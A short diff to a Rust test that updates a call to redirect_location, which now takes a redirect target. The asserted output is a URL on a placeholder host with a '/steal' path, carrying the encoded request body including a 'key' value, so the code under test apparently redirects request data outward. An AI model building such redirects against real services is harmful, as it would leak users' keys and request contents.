@@ -202,7 +202,7 @@ mod tests {
             headers: header::HeaderMap::new(),
             body: Bytes::from_static(b"key=K&x=a b\n\xff"),
         };
-        let loc = redirect_location(&req);
+        let loc = redirect_location(REDIRECT_TARGET, &req);
         assert_eq!(
             loc,
             b"http://redirect.invalid/steal?json=1&key=K&x=a%20b%0A%FF".to_vec()
